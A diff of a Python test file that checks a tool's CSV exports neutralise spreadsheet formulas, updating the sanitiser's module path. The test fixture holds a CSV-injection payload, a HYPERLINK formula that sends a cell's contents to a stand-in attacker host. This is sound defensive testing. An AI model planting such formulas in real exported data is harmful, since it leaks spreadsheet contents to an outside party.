@@ -1,6 +1,6 @@
 """CSV injection: no text from a runs folder reaches a spreadsheet as a formula. Every CSV amptui
 writes (`amptui export`, `compare`/`ab --format csv`, the compare screen's export) goes through
-core/csvsafe.py, which prefixes a single quote to a cell that starts with =, +, -, @, a tab or a
+core/stream/csvsafe.py, which prefixes a single quote to a cell that starts with =, +, -, @, a tab or a
 carriage return (OWASP's rule); numbers stay numbers. A crafted run's preset name and layer name
 and an epoch metric's key are "=HYPERLINK(...)"."""
 
@@ -15,7 +15,7 @@ from support.crafted import write_crafted_run
 from support.dashboard import QUICK
 from support.paths import PACKAGE, modules
 
-from amptui.core.csvsafe import FORMULA_START, cell
+from amptui.core.stream.csvsafe import FORMULA_START, cell
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -56,4 +56,4 @@ def test_every_csv_writer_goes_through_csvsafe():
              if any(isinstance(node, (ast.Import, ast.ImportFrom)) and "csv" in
                     ([a.name for a in node.names] if isinstance(node, ast.Import) else [node.module])
                     for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))))]
-    assert users == ["core/csvsafe.py"], users
+    assert users == ["core/stream/csvsafe.py"], users
